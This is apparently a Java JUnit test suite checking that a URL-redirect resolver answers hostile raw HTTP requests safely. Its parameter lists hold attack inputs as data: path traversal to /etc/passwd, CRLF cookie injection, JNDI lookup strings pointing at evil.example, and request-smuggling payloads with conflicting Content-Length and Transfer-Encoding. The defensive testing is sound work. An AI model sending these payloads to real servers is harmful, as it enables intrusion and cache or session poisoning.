package dev.waypost.resolver;

import static org.assertj.core.api.Assertions.assertThat;

import dev.waypost.resolver.RawHttp.Answer;
import dev.waypost.scanlog.ScanRecord;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Bytes that are no proper request. Behind each goes a proper one that asks to close the
 * connection, so that every exchange ends, whether or not the bytes before were taken for a
 * request.
 */
class HostileRequestsTest {
  private static final String DESTINATION = "https://example.com/";
  private static final String SMUGGLED = "GET /SMUGGLED HTTP/1.1\r\nHost: a\r\n\r\n";
  private static final String LAST = "GET /KEY HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n";

  /** What may come back; everything else, 5xx above all, is a failure. */
  private static final Set<Integer> ALLOWED = Set.of(302, 400, 404, 405, 414, 426, 431);

  private static RunningResolver resolver;

  @BeforeAll
  static void start(@TempDir Path directory) throws IOException {
    resolver = RunningResolver.start(directory);
    resolver.route("KEY", DESTINATION);
    resolver.route("SMUGGLED", DESTINATION);
  }

  @AfterAll
  static void stop() {
    resolver.close();
  }

  @AfterEach
  void theNextScanIsAnswered() throws Exception {
    assertThat(resolver.get("/KEY").statusCode()).isEqualTo(302);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "GET / HTTP/1.1",
        "GET /KEY",
        "GET /KEY HTTP/0.9",
        "GET /KEY HTTP/1.2",
        "GET /KEY HTTP/2.0",
        "GET /KEY HTTP/9.9",
        "GET /KEY FOO/1.1",
        "GET /KEY\u0000 HTTP/1.1",
        "GET /KEY%00 HTTP/1.1",
        "GET /KEY\u00c0\u00ae HTTP/1.1",
        "GET /%c0%ae%c0%ae/KEY HTTP/1.1",
        "GET /%e0%80%ae/%f0%80%80%ae HTTP/1.1",
        "GET /..;/KEY HTTP/1.1",
        "GET /;/KEY HTTP/1.1",
        "GET /../../etc/passwd HTTP/1.1",
        "GET /KEY\\..\\ HTTP/1.1",
        "GET /KEY x HTTP/1.1",
        "GET  /KEY HTTP/1.1",
        "GET\t/KEY\tHTTP/1.1",
        "GET /KEY#fragment HTTP/1.1",
        "GET //evil.example/%2e%2e HTTP/1.1",
        "GET http://evil.example/KEY HTTP/1.1",
        "GET http://evil.example HTTP/1.1",
        "GET http:// HTTP/1.1",
        "GET :// HTTP/1.1",
        "GET http://[ HTTP/1.1",
        "GET * HTTP/1.1",
        "GET ? HTTP/1.1",
        "GET /KEY?a=%0d%0aSet-Cookie:%20a=b HTTP/1.1",
        "GET /KEY?a=\rSet-Cookie:a=b HTTP/1.1",
        "GET /%0d%0aSet-Cookie:%20a=b HTTP/1.1",
        "GET /KEY%0d%0a%0d%0aHTTP/1.1%20200%20OK HTTP/1.1",
        "GET /${jndi:ldap://evil.example/a} HTTP/1.1",
        "GET /KEY?%s%n%x HTTP/1.1",
        "OPTIONS * HTTP/1.1",
        "CONNECT evil.example:443 HTTP/1.1",
        "TRACE /KEY HTTP/1.1",
        "get /KEY HTTP/1.1",
        "G\u00cbT /KEY HTTP/1.1",
        "PRI * HTTP/2.0",
        "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003",
        "\u0000\u0001\u0002",
        "\r\n\r\n",
      })
  void aHostileRequestLineIsAnsweredPlainly(String line) throws Exception {
    assertHarmless(line + "\r\nHost: a\r\n\r\n", 1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "Host: a\r\nHost: b",
        "Host: a b",
        "Host: [::1",
        "Host: :",
        "Host: a:99999999999",
        "Host: a:b:c",
        "Host: \u0000",
        "Host: evil.example/KEY?",
        "Host: user@evil.example",
        "Host : a",
        "Host: a\r\n folded: b",
        "nonsense",
        ": nameless",
        "X-\u0000: a",
        "X-A: a\u0000b",
        "X-A: a\rSet-Cookie: b",
        "X-A: a\nX-B: b",
        "Content-Length: -1",
        "Content-Length: +5",
        "Content-Length: 5, 6",
        "Content-Length: 0\r\nContent-Length: 5",
        "Content-Length: 99999999999999999999",
        "Content-Length: 0x5",
        "Expect: 100-continue",
        "Expect: nonsense",
        "Connection: Upgrade\r\nUpgrade: h2c",
        "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: !!!",
        "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
        "Connection: Upgrade\r\nUpgrade: websocket",
        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 99\r\nSec-WebSocket-Key: ?",
        "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "Range: bytes=0-0,-1",
        "X-Forwarded-For: ,,,,%s\u00ff",
        "Accept-Language: \u00ff\u00fe",
        "User-Agent: \u0001\u00ff${jndi:ldap://evil.example/a}",
        "Referer: https://[\u00ff@:::/\\",
      })
  void hostileHeadersAreAnsweredPlainly(String headers) throws Exception {
    assertHarmless("GET /KEY HTTP/1.1\r\n" + headers + "\r\n\r\n", 1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "GET /KEY HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "GET /KEY HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n",
        "POST /KEY HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "GET /KEY HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        "GET /KEY HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
        "GET /KEY HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "GET /KEY HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "POST /KEY HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
        "POST /KEY HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5;\nx\r\nhello\r\n0\r\n\r\n",
        "GET /KEY HTTP/9.9\r\nHost: a\r\n\r\n",
      })
  void nothingIsSmuggledBehindAnAmbiguousRequest(String ambiguous) throws Exception {
    List<Answer> answers = RawHttp.exchange(resolver.port(), ambiguous + SMUGGLED + LAST);

    assertThat(answers).hasSizeLessThanOrEqualTo(1);
    assertThat(answers)
        .allSatisfy(answer -> {
          assertThat(answer.status()).isEqualTo(400);
          assertThat(answer.headers().get("connection")).containsExactly("close");
        });
    assertNothingWasSmuggled();
  }

  @Test
  void aBodyOfKnownLengthIsPassedOver() throws Exception {
    for (String method : List.of("GET", "HEAD", "POST")) {
      List<Answer> answers =
          RawHttp.exchange(
              resolver.port(),
              method
                  + " /KEY HTTP/1.1\r\nHost: a\r\nContent-Length: "
                  + SMUGGLED.length()
                  + "\r\n\r\n"
                  + SMUGGLED
                  + LAST);
      assertThat(answers)
          .extracting(Answer::status)
          .containsExactly(method.equals("POST") ? 405 : 302, 302);
    }
    assertNothingWasSmuggled();
  }

  @Test
  void requestsInOnePacketAreAnsweredInTheirOrder() throws Exception {
    String get = "GET /KEY HTTP/1.1\r\nHost: a\r\n\r\n";
    String unknown = "GET /UNKNOWN HTTP/1.1\r\nHost: a\r\n\r\n";
    assertThat(RawHttp.exchange(resolver.port(), (get + unknown).repeat(50) + LAST))
        .extracting(Answer::status)
        .hasSize(101)
        .startsWith(302, 404, 302, 404)
        .endsWith(404, 302);
  }

  @Test
  void linesThatEndWithoutCarriageReturnAreOneRequestOrNone() throws Exception {
    assertHarmless("GET /KEY HTTP/1.1\nHost: a\n\n", 1);
    assertHarmless("GET /KEY HTTP/1.1\rHost: a\r\r", 1);
    assertHarmless("GET /KEY HTTP/1.1\r\nHost: a\r\nX: a\n\nGET /SMUGGLED HTTP/1.1\r\n\r\n", 1);
    assertNothingWasSmuggled();
  }

  @ParameterizedTest
  @ValueSource(ints = {9_000, 65_536, 1_000_000})
  void aLongAddressIsTooLong(int length) throws Exception {
    assertThat(firstStatus("GET /" + "a".repeat(length) + " HTTP/1.1\r\nHost: a\r\n\r\n"))
        .isEqualTo(414);
  }

  @Test
  void giantHeadersAreTooLarge() throws Exception {
    assertThat(
            firstStatus("GET /KEY HTTP/1.1\r\nHost: a\r\nX-A: " + "a".repeat(65_536) + "\r\n\r\n"))
        .isEqualTo(431);
    assertThat(
            firstStatus("GET /KEY HTTP/1.1\r\nHost: a\r\n" + "X-A: b\r\n".repeat(5_000) + "\r\n"))
        .isEqualTo(431);
  }

  private static int firstStatus(String request) throws IOException {
    List<Answer> answers = RawHttp.exchange(resolver.port(), request + LAST);
    assertThat(answers).hasSize(1);
    return answers.getFirst().status();
  }

  /**
   * Sends what is at most so many requests and a proper one behind them, and holds all answers
   * against what may come back.
   */
  private static void assertHarmless(String bytes, int atMost) throws IOException {
    List<Answer> answers = RawHttp.exchange(resolver.port(), bytes + LAST);

    assertThat(answers).hasSizeLessThanOrEqualTo(atMost + 1);
    for (Answer answer : answers) {
      assertThat(ALLOWED).contains(answer.status());
      assertThat(answer.headers().keySet()).doesNotContain("set-cookie", "x-b", "folded");
      if (answer.status() == 302) {
        assertThat(answer.headers().get("location")).containsExactly(DESTINATION);
        assertThat(answer.body()).isEmpty();
      }
    }
  }

  private static void assertNothingWasSmuggled() throws IOException {
    assertThat(resolver.scans()).extracting(ScanRecord::codeId).doesNotContain("code_SMUGGLED");
  }
}
